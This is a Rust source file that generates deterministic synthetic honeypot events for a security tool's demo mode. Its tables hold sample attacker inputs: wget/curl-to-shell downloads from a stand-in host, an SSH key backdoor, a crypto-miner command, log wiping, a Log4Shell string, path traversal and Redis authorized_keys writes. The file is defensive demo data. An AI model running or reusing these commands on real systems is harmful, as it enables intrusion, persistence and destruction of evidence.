//! The demo data set of `sikker serve --demo`: deterministic synthetic
//! sensor events, replayed through the normal validation and ingest path
//! under a sensor named "demo (synthetic data)".
//!
//! Sources are drawn from 11.0.0.0/8 and 2001:20::/28 (see README.md, "Demo
//! data"): public address space the filter accepts, yet not a pool real
//! attackers come from, so nobody mistakes the demo for real evidence.

use super::sensors::{IngestOutcome, WireEvent};
use super::{Error, Result, Services};

pub const DEMO_SENSOR: &str = "demo (synthetic data)";
const V4_SOURCES: u64 = 3000;
const V6_SOURCES: u64 = 150;
const SPAN_MS: i64 = 7 * 86_400_000;
const BATCH: usize = 5000;

/// splitmix64: tiny, deterministic, good enough for synthetic data.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        let i = usize::try_from(self.below(items.len() as u64)).unwrap_or(0);
        items.get(i).copied().unwrap_or_default()
    }
}

const USERS: &[&str] = &[
    "root",
    "admin",
    "ubuntu",
    "test",
    "oracle",
    "postgres",
    "git",
    "user",
    "pi",
    "support",
    "guest",
    "ftpuser",
    "deploy",
    "hadoop",
    "minecraft",
];
const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "qwerty",
    "1234",
    "toor",
    "raspberry",
];
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "whoami",
    "free -m",
    "cd /tmp; wget http://payload.demo.invalid/x.sh; chmod +x x.sh; ./x.sh",
    "curl -s http://payload.demo.invalid/m | sh",
    "echo ssh-rsa AAAAdemo >> ~/.ssh/authorized_keys",
    "./xmrig -o stratum+tcp://pool.demo.invalid:3333",
    "crontab -l",
    "history -c; rm -rf /var/log/*",
    "ls -la",
];
const PATHS: &[&str] = &[
    "/",
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/phpmyadmin/index.php",
    "/cgi-bin/../../../../bin/sh",
    "/?x=${jndi:ldap://demo.invalid/a}",
    "/shell?cd+/tmp;wget+http://payload.demo.invalid/b",
    "/boaform/admin/formLogin",
    "/backup.sql",
    "/favicon.ico",
    "/robots.txt",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; DemoScanner/1.0)",
];
const SSH_CLIENTS: &[&str] = &[
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-Go",
    "SSH-2.0-paramiko_3.4.0",
    "SSH-2.0-OpenSSH_7.4",
];
const REDIS: &[&str] = &[
    "INFO",
    "CONFIG SET dir /root/.ssh",
    "CONFIG SET dbfilename authorized_keys",
    "SLAVEOF 11.0.0.1 8886",
    "FLUSHALL",
];
const PORTS: &[(u16, &str)] = &[
    (21, "ftp"),
    (3306, "mysql"),
    (5432, "postgresql"),
    (27017, "mongodb"),
    (2375, "docker"),
    (9200, "elasticsearch"),
    (1433, "mssql"),
    (143, "imap"),
    (445, "smb"),
    (554, "rtsp"),
    (5060, "sip"),
    (6379, "redis"),
];

fn source(i: u64) -> String {
    if i < V4_SOURCES {
        // An odd multiplier permutes the 24-bit host part: distinct, scattered.
        let h = (i.wrapping_mul(2_654_435_761) + 1) & 0x00ff_ffff;
        format!("11.{}.{}.{}", h >> 16, (h >> 8) & 0xff, h & 0xff)
    } else {
        let j = i - V4_SOURCES;
        format!("2001:20:{:x}::{:x}", 0xd000 + (j >> 8), (j & 0xff) + 1)
    }
}

struct Gen {
    rng: Rng,
    now: i64,
    out: Vec<WireEvent>,
}

impl Gen {
    fn event(
        &mut self,
        ip: &str,
        protocol: &str,
        port: u16,
        session: &str,
        kind: &str,
    ) -> &mut WireEvent {
        let ts = self.now - i64::try_from(self.rng.below(SPAN_MS as u64)).unwrap_or(0);
        self.out.push(WireEvent {
            ts: serde_json::Value::from(ts),
            src_ip: ip.to_owned(),
            protocol: protocol.to_owned(),
            dst_port: Some(port),
            session_id: session.to_owned(),
            kind: kind.to_owned(),
            ..WireEvent::default()
        });
        let last = self.out.len() - 1;
        &mut self.out[last]
    }

    fn logins(&mut self, ip: &str, proto: &str, port: u16, id: u64, client: Option<&str>) {
        let sessions = 1 + self.rng.below(3);
        for s in 0..sessions {
            let session = format!("demo-{id}-{s}");
            let attempts = 3 + self.rng.below(25);
            for _ in 0..attempts {
                let user = self.rng.pick(USERS);
                let pass = self.rng.pick(PASSWORDS);
                let hash = blake3::keyed_hash(&[7; 32], format!("{user}\0{pass}").as_bytes());
                let e = self.event(ip, proto, port, &session, "auth");
                e.username = Some(user.to_owned());
                e.credential_hash = Some(hash.to_hex().to_string());
                e.user_agent = client.map(str::to_owned);
            }
            if self.rng.below(3) == 0 {
                for _ in 0..=self.rng.below(4) {
                    let c = self.rng.pick(COMMANDS);
                    self.event(ip, proto, port, &session, "command").command = Some(c.to_owned());
                }
            }
        }
    }

    fn source(&mut self, i: u64) {
        let ip = source(i);
        let session = format!("demo-{i}-0");
        match self.rng.below(100) {
            0..30 => {
                let client = self.rng.pick(SSH_CLIENTS);
                self.logins(&ip, "ssh", 22, i, Some(client));
            }
            30..45 => self.logins(&ip, "telnet", 23, i, None),
            45..65 => {
                let agent = self.rng.pick(AGENTS);
                for _ in 0..=self.rng.below(8) {
                    let path = self.rng.pick(PATHS);
                    let method = if self.rng.below(4) == 0 {
                        "POST"
                    } else {
                        "GET"
                    };
                    let e = self.event(&ip, "http", 80, &session, "http_request");
                    e.http_path = Some(path.to_owned());
                    e.http_method = Some(method.to_owned());
                    e.user_agent = Some(agent.to_owned());
                }
            }
            65..75 => {
                let helo = format!("mx{}.bulk-mailer.example", self.rng.below(50));
                let from = format!("offers{}@bulk-mailer.example", self.rng.below(40));
                let e = self.event(&ip, "smtp", 25, &session, "mail");
                e.email = Some(from);
                e.user_agent = Some(helo.clone());
                for _ in 0..=self.rng.below(5) {
                    let to = format!("user{}@victims.example", self.rng.below(500));
                    let e = self.event(&ip, "smtp", 25, &session, "mail");
                    e.email = Some(to);
                    e.user_agent = Some(helo.clone());
                }
            }
            75..85 => {
                for _ in 0..=self.rng.below(4) {
                    let c = self.rng.pick(REDIS);
                    self.event(&ip, "redis", 6379, &session, "command").command =
                        Some(c.to_owned());
                }
            }
            _ => {
                let n = 2 + self.rng.below(10);
                for k in 0..n {
                    let (port, proto) =
                        PORTS[usize::try_from(self.rng.below(PORTS.len() as u64)).unwrap_or(0)];
                    self.event(&ip, proto, port, &format!("demo-{i}-p{k}"), "connect");
                }
            }
        }
    }
}

/// The whole demo event set, deterministic for a given `now`.
pub fn events(now: i64) -> Vec<WireEvent> {
    let mut g = Gen {
        rng: Rng(0x5111_4e12),
        now,
        out: Vec::new(),
    };
    for i in 0..V4_SOURCES + V6_SOURCES {
        g.source(i);
    }
    g.out
}

impl Services {
    /// Creates the demo sensor and replays the demo events through the
    /// sensor ingest (validation included), in batches.
    pub async fn seed_demo(&self) -> Result<IngestOutcome> {
        let (_, sensor) = self.create_sensor(DEMO_SENSOR).await?;
        let all = events(self.clock.now().0);
        let mut total = IngestOutcome::default();
        for chunk in all.chunks(BATCH) {
            let valid = self.validate_batch(chunk).map_err(|errs| {
                Error::invalid(
                    "demo",
                    format!("the demo data set failed validation: {errs:?}"),
                )
            })?;
            let out = self.ingest_events(&sensor, valid).await?;
            total.received += out.received;
            total.accepted += out.accepted;
            total.duplicates += out.duplicates;
        }
        Ok(total)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::IpKey;

    #[test]
    fn deterministic_public_and_distinct() {
        let a = events(1_774_094_400_000);
        assert_eq!(a.len(), events(1_774_094_400_000).len());
        assert!(a.len() > 10_000, "{}", a.len());
        let mut ips = std::collections::BTreeSet::new();
        for i in 0..V4_SOURCES + V6_SOURCES {
            let ip: IpKey = source(i).parse().unwrap();
            assert!(ip.is_public(), "{ip}");
            ips.insert(ip);
        }
        assert_eq!(ips.len() as u64, V4_SOURCES + V6_SOURCES);
    }
}
